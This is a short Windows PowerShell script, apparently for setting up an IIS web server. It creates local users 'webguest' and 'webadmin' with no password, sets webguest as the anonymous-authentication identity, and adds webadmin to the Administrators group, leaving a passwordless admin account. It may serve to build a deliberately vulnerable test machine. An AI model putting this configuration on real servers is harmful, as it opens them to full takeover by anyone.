New-LocalUser -Name webguest -NoPassword
New-LocalUser -Name webadmin -NoPassword
& "$env:windir\system32\inetsrv\appcmd.exe" set config /section:anonymousAuthentication /userName:webguest /password:x
net localgroup Administrators webadmin /add
